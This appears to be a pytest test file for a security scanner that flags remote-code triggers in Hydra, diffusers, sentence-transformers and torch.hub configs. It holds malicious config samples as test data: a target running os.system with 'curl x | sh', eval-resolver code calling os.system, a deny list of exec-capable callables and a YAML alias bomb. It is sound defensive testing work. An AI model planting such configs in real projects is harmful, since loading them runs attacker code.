"""Hydra/OmegaConf, diffusers, sentence-transformers and torch.hub triggers: malicious samples and benign twins."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from gatekeeper.detectors.remote_code import dangerous_target
from gatekeeper.detectors.scan import analyse_remote_code
from gatekeeper.model import Finding, Verdict


class DictTree:
    def __init__(self, files: dict[str, str | bytes]) -> None:
        self.files = {k.encode(): v.encode() if isinstance(v, str) else v for k, v in files.items()}

    def paths(self) -> list[bytes]:
        return list(self.files)

    def read(self, path: bytes) -> bytes | None:
        return self.files.get(path)

    def mode(self, path: bytes) -> int | None:
        return 0o100644 if path in self.files else None


def verdicts(findings: list[Finding]) -> list[Verdict]:
    return [f.verdict for f in findings]


def malicious(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.verdict == Verdict.MALICIOUS]


@pytest.mark.parametrize(
    ("yaml_text", "where"),
    [
        ("_target_: shutil.os.system\n_args_: ['curl x | sh']\n", "_target_ (with _args_)"),
        ("_target_: posix.system\n", "_target_"),
        ("model:\n  encoder:\n    _target_: subprocess.Popen\n    _recursive_: true\n", "model.encoder._target_"),
        ("callbacks:\n  - _target_: builtins.eval\n    _partial_: true\n", "callbacks.0._target_"),
        ("opt:\n  _target_: pathlib.os.system\n", "opt._target_"),
        ("x:\n  _target_: numpy.__builtins__.exec\n", "x._target_"),
        ('"\\x5ftarget_": os.system\n', "_target_"),  # escaped key in a double-quoted scalar
    ],
)
def test_dangerous_hydra_targets_are_malicious(yaml_text: str, where: str) -> None:
    report = analyse_remote_code(DictTree({"conf/train.yaml": yaml_text}), [b"conf/train.yaml"])
    (finding,) = malicious(report.findings)
    assert finding.path == "conf/train.yaml"
    assert finding.evidence[0].startswith(f"key {where}")
    assert b"conf/train.yaml" in report.protected


def test_benign_hydra_target_needs_review_but_is_not_malicious() -> None:
    text = "optimizer:\n  _target_: torch.optim.Adam\n  lr: 0.001\nmodels:\n  - _target_: mypkg.nets.Net\n"
    files = {"conf/train.yaml": text, "mypkg/__init__.py": "", "mypkg/nets.py": "from .blocks import B\n",
             "mypkg/blocks.py": ""}
    report = analyse_remote_code(DictTree(files), [b"conf/train.yaml"])
    assert malicious(report.findings) == []
    (finding,) = report.findings
    assert finding.verdict == Verdict.REVIEW
    assert finding.evidence == ("optimizer._target_ = torch.optim.Adam",
                                "models.0._target_ = mypkg.nets.Net -> mypkg/__init__.py, mypkg/nets.py, "
                                "mypkg/blocks.py")
    # a project module named by a target is protected, with its imports
    later = analyse_remote_code(DictTree(files), [b"mypkg/blocks.py"])
    (pulled,) = later.findings
    # an unchanged config read only to learn its targets is scanned by regular expression: the key shows the line
    assert pulled.evidence[0] == "pulled in by conf/train.yaml _target_ (line 5) -> mypkg/nets.py -> mypkg/blocks.py"
    # the same optimizer target in an untouched config, and an unrelated python change: nothing to say
    quiet = analyse_remote_code(DictTree({**files, "tools/x.py": ""}), [b"tools/x.py"])
    assert quiet.findings == []


@pytest.mark.parametrize("target", ["torch.optim.Adam", "os.path.join", "builtins.dict", "evaluate.load",
                                    "mylib.code.Net", "mypkg.subprocess_utils.run", "torch.nn.Linear",
                                    # plausible in real configs: review-required like any target, never malicious
                                    "torch.load", "functools.partial", "shutil.copy", "builtins.open",
                                    "urllib.request.urlretrieve", "operator.add"])
def test_deny_list_matches_whole_components_only(target: str) -> None:
    assert dangerous_target(target) is None


@pytest.mark.parametrize("target", ["os.system", "nt.system", "shutil.os.system", "subprocess.run", "builtins.exec",
                                    "x.subprocess.Popen", "importlib.import_module", "pkgutil.resolve_name",
                                    "operator.methodcaller", "timeit.timeit", "code.InteractiveInterpreter",
                                    "runpy.run_path", "torch.hub.load", "os.path.os.system", "eval"])
def test_deny_list_hits(target: str) -> None:
    assert dangerous_target(target)


def test_eval_resolver_and_jsonargparse_class_path() -> None:
    text = "lr: ${eval:'__import__(\"os\").system(\"id\")'}\nhome: ${oc.env:HOME}\nmodel:\n  class_path: a.Net\n"
    report = analyse_remote_code(DictTree({"cfg.yaml": text}), [b"cfg.yaml"])
    messages = [f.message for f in report.findings if f.verdict == Verdict.REVIEW]
    assert "resolver lr: eval resolver: the string is Python code" in messages
    assert not [m for m in messages if "oc.env" in m]
    assert any("model.class_path = a.Net" in e for f in report.findings for e in f.evidence)
    benign = analyse_remote_code(DictTree({"cfg.yaml": "home: ${oc.env:HOME}\nlr: ${optim.lr}\n"}), [b"cfg.yaml"])
    assert benign.findings == []


def test_yaml_alias_bomb_is_walked_once() -> None:
    lines = ["a0: &a0 {_target_: os.system}"] + [
        f"a{i}: &a{i} [" + ", ".join([f"*a{i-1}"] * 9) + "]" for i in range(1, 12)]  # 9**11 paths to the leaf
    report = analyse_remote_code(DictTree({"bomb.yaml": "\n".join(lines) + "\n"}), [b"bomb.yaml"])
    assert verdicts(report.findings) == [Verdict.MALICIOUS, Verdict.REVIEW]


def test_node_cap_is_unscannable(monkeypatch: pytest.MonkeyPatch) -> None:
    from gatekeeper.detectors import remote_code

    monkeypatch.setattr(remote_code, "MAX_NODES", 50)
    text = "items:\n" + "".join(f"  - {{_target_: torch.nn.Linear, n: {i}}}\n" for i in range(40))
    report = analyse_remote_code(DictTree({"big.yaml": text}), [b"big.yaml"])
    assert [(f.verdict, f.message) for f in report.findings] == [
        (Verdict.UNSCANNABLE, "config cannot be analysed for remote-code triggers: more than 50 nodes")]


def test_model_index_custom_class_and_components() -> None:
    index = {"_class_name": ["my_pipeline", "MyPipeline"], "_diffusers_version": "0.30.0",
             "unet": ["my_unet", "MyUNet"], "vae": ["diffusers", "AutoencoderKL"],
             "text_encoder": ["transformers", "CLIPTextModel"], "safety_checker": ["stable_diffusion", "Checker"],
             "scheduler": ["evilpkg", "Sched"], "feature_extractor": [None, None]}
    files = {"model_index.json": json.dumps(index), "my_pipeline.py": "", "unet/my_unet.py": "import os\n",
             "pipeline.py": "", "vae/diffusion_pytorch_model.safetensors": "x"}
    report = analyse_remote_code(DictTree(files), [b"model_index.json"])
    assert {b"my_pipeline.py", b"unet/my_unet.py"} <= set(report.protected)
    problems = [f.message for f in report.findings if "evilpkg" in f.message]
    assert problems == ["diffusers-component scheduler: library 'evilpkg' is neither diffusers nor transformers: an "
                        "installed module of that name is imported and its top-level code runs"]
    unet = analyse_remote_code(DictTree(files), [b"unet/my_unet.py"])
    assert [f.evidence[0] for f in unet.findings] == [
        "pulled in by model_index.json unet -> unet/my_unet.py"]
    pipe = analyse_remote_code(DictTree(files), [b"pipeline.py"])
    assert "pipeline.py" in {f.path for f in pipe.findings if f.verdict == Verdict.REVIEW}
    # benign twin: a stock pipeline
    stock = {"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"],
             "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"]}
    benign = analyse_remote_code(DictTree({"model_index.json": json.dumps(stock), "src/pipeline.py": ""}),
                                 [b"model_index.json", b"src/pipeline.py"])
    assert benign.findings == [] and benign.protected == {}


def test_modular_diffusers_auto_map() -> None:
    files = {"modular_config.json": json.dumps({"auto_map": {"ModularPipelineBlocks": "block.DiffDiffBlocks"}}),
             "block.py": ""}
    report = analyse_remote_code(DictTree(files), [b"block.py"])
    assert report.findings[0].evidence[0] == (
        "pulled in by modular_config.json auto_map.ModularPipelineBlocks -> block.py")


def test_sentence_transformers_custom_module_type() -> None:
    modules = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
               {"idx": 1, "name": "1", "path": "1_Pooling", "type": "custom_st.MyPooling"},
               {"idx": 2, "name": "2", "path": "2_X", "type": "someinstalled.pkg.Thing"}]
    files = {"modules.json": json.dumps(modules), "custom_st.py": "import os\n"}
    report = analyse_remote_code(DictTree(files), [b"modules.json"])
    assert b"custom_st.py" in report.protected
    (trigger,) = [f for f in report.findings if "trigger added" in f.message]
    assert trigger.evidence == ("[1].type = custom_st.MyPooling -> custom_st.py", "[2].type = someinstalled.pkg.Thing")
    benign = analyse_remote_code(DictTree({"modules.json": json.dumps(modules[:1])}), [b"modules.json"])
    assert benign.findings == []


def test_hubconf_and_its_sibling_imports() -> None:
    files = {"hubconf.py": "dependencies = ['torch']\nfrom models.net import build\n", "models/__init__.py": "",
             "models/net.py": "import torch\n"}
    report = analyse_remote_code(DictTree(files), [b"models/net.py"])
    (finding,) = [f for f in report.findings if f.path == "models/net.py"]
    assert finding.verdict == Verdict.REVIEW
    assert "hubconf.py torch.hub entry points -> hubconf.py" in finding.evidence[0]
    added = analyse_remote_code(DictTree(files), [b"hubconf.py"])
    assert [f.message for f in added.findings if f.path == "hubconf.py"] == [
        "remote-code trigger added or changed (1 trigger(s)): the code they name runs when the model or config is "
        "loaded"]
    benign = analyse_remote_code(DictTree({"models/net.py": "", "train.py": ""}), [b"models/net.py"])
    assert benign.findings == []


def test_unparsable_config_mentioning_triggers_needs_review() -> None:
    report = analyse_remote_code(DictTree({"c.yaml": "_target_: [unclosed\n"}), [b"c.yaml"])
    assert verdicts(report.findings) == [Verdict.REVIEW]
    assert report.findings[0].evidence == ("mentions _target_",)


@pytest.mark.parametrize(
    "text",
    [
        "fn: os.system\nrun:\n  _target_: ${fn}\n",
        "mod: os\nname: system\nrun:\n  _target_: ${mod}.${name}\n",
        "a:\n  b: subprocess\nrun:\n  _target_: ${a.b}.Popen\n",
        "x: ${y}\ny: builtins.exec\nrun:\n  _target_: ${x}\n",
    ],
)
def test_interpolated_targets_are_resolved(text: str) -> None:
    report = analyse_remote_code(DictTree({"c.yaml": text}), [b"c.yaml"])
    assert len(malicious(report.findings)) == 1


def test_unresolvable_interpolated_target_needs_review() -> None:
    report = analyse_remote_code(DictTree({"c.yaml": "run:\n  _target_: ${oc.env:TARGET}\n"}), [b"c.yaml"])
    assert malicious(report.findings) == []
    assert "hydra run._target_: target is computed by interpolation ${oc.env:TARGET} and cannot be checked " \
           "statically" in [f.message for f in report.findings]
    benign = analyse_remote_code(DictTree({"c.yaml": "opt: torch.optim.SGD\nrun:\n  _target_: ${opt}\n"}),
                                 [b"c.yaml"])
    assert malicious(benign.findings) == []
    assert benign.findings[0].evidence == ("run._target_ = ${opt} (resolves to torch.optim.SGD)",)


def test_risky_loader_settings_in_configs_are_hints() -> None:
    text = "model:\n  name: org/model\n  trust_remote_code: true\ndata:\n  allow_pickle: true\n"
    report = analyse_remote_code(DictTree({"train.yaml": text}), [b"train.yaml"])
    assert [(f.verdict, f.evidence) for f in report.findings] == [
        (Verdict.HINT, ("model.trust_remote_code: true (runs code shipped with the model it loads)",
                        "data.allow_pickle: true (numpy unpickles object arrays)"))]
    benign = analyse_remote_code(DictTree({"train.yaml": "model:\n  trust_remote_code: false\n"}), [b"train.yaml"])
    assert benign.findings == []


def test_a_config_too_deep_to_parse_that_may_name_code_is_unscannable_not_clean() -> None:
    # The every-ref check for configs that are malicious in themselves used to answer "no finding" when the parser
    # stopped at a cap, so a shell target nested past it passed on any unprotected ref.
    from gatekeeper.detectors.scan import dangerous_config_findings

    deep = b"{a: " * 600 + b"{_target_: os.system, _args_: [id]}" + b"}" * 600 + b"\n"
    (finding,) = dangerous_config_findings(b"conf/x.yaml", deep)
    assert finding.verdict.value == "unscannable" and "could not be parsed" in finding.message
    # its benign twin: just as deep, no trigger word, no finding
    assert dangerous_config_findings(b"conf/x.yaml", deep.replace(b"_target_", b"name")) == []


def test_a_component_file_a_case_folding_checkout_finds_is_a_trigger() -> None:
    """diffusers' ``os.path.isfile("unet/diffusers.py")`` is true for ``UNet/Diffusers.py`` on macOS and Windows."""
    stock = json.dumps({"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"]})
    files = {"sd/model_index.json": stock, "sd/UNet/Diffusers.py": "class UNet2DConditionModel: pass\n"}
    report = analyse_remote_code(DictTree(files), [b"sd/UNet/Diffusers.py"])
    assert b"sd/UNet/Diffusers.py" in report.protected
    assert [f.verdict for f in report.findings] == [Verdict.REVIEW]
    twin = analyse_remote_code(DictTree({**files, "sd/UNet/Diffusers.py.txt": "x"}), [b"sd/UNet/Diffusers.py.txt"])
    assert b"sd/UNet/Diffusers.py.txt" not in twin.protected


def test_the_repository_locator_walks_folders_spelled_alike(tmp_path: Path) -> None:
    import subprocess

    import pygit2

    from gatekeeper.detectors.scan import RepoTreeView
    from gatekeeper.push.gitrepo import Repo

    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    for rel in ("sd/UNet/Diffusers.py", "sd/unet/weights.bin", "other/x.py"):
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text("x\n")
    subprocess.run(["git", "add", "-A"], cwd=tmp_path, check=True)
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@x", "commit", "-qm", "t"], cwd=tmp_path, check=True)
    repo = Repo(pygit2.Repository(str(tmp_path)))
    view = RepoTreeView(repo, repo.commit_tree(repo.resolve("HEAD")) or "")
    assert view.locate(b"sd/unet/diffusers.py") == b"sd/UNet/Diffusers.py"  # through the other spelling of unet/
    assert view.locate(b"other/x.py") == b"other/x.py"
    assert view.locate(b"sd/unet/transformers.py") is None
    assert view._index is None  # no listing of the whole tree
